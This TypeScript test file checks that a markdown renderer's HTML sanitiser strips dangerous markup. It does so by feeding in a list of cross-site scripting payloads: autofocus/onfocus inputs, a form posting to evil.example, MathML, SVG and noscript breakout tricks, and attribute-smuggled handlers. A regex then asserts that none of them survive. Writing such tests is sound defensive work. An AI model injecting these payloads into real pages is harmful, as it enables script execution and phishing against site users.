// What the sanitiser drops outright, not even kept as inert markup: form elements of the writer's own (a task
// list's checkbox stays), MathML, SVG and <noscript> with their content, attribute values that carry markup.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { renderText } from '../../../server/src/render';

const page = (body: string) => renderText(`# NA01 - RCA - April 11, 2026\n\n## Introduction\n\nBefore.\n\n${body}\n\nAfter.\n`, { profile: 'exlibris' }).html;

describe('sanitising raw HTML', () => {
  for (const payload of [
    '<input type="text" value="secret" autofocus onfocus="pwned()">',
    '<input type="checkbox" checked autofocus>',
    '<form action="https://evil.example"><input name="q"><button formaction="https://evil.example">Go</button></form>',
    'A paragraph with <input autofocus onfocus=pwned()> inline.',
    '<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:pwned()">click<mtext>x</mtext></maction></math>',
    '<svg><foreignObject><p onclick="pwned()">svg</p></foreignObject></svg>',
    '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
    '<noscript><a onclick="pwned()">n</a></noscript>',
    '<p title="<img src=x onerror=pwned()>">titled</p>',
    '<a href="#x" data-x="x onmouseover=pwned()">link</a>',
  ]) {
    it(`leaves nothing of ${payload}`, () => {
      const html = page(payload);
      const body = html.slice(html.indexOf('Before.'), html.indexOf('After.'));
      assert.doesNotMatch(body, /<input|autofocus|pwned|onerror|onfocus|onclick|<math|<svg|noscript|xlink|formaction/i, body);
      assert.doesNotMatch(html, /rca-note/, 'not shown as text either');
    });
  }

  it("keeps a task list's checkboxes, ticked or not, disabled and with nothing else", () => {
    const html = page('- [ ] open item\n- [x] done item');
    assert.match(html, /<li class="task-list-item"><input type="checkbox" disabled> open item<\/li>/);
    assert.match(html, /<li class="task-list-item"><input type="checkbox" checked disabled> done item<\/li>/);
  });

  it('keeps the words around and inside harmless form markup', () => {
    const html = page('<select><option>first choice</option></select> and <button>a button</button>');
    assert.match(html, /first choice/);
    assert.match(html, /a button/);
    assert.doesNotMatch(html, /<select|<button|<option/);
  });
});
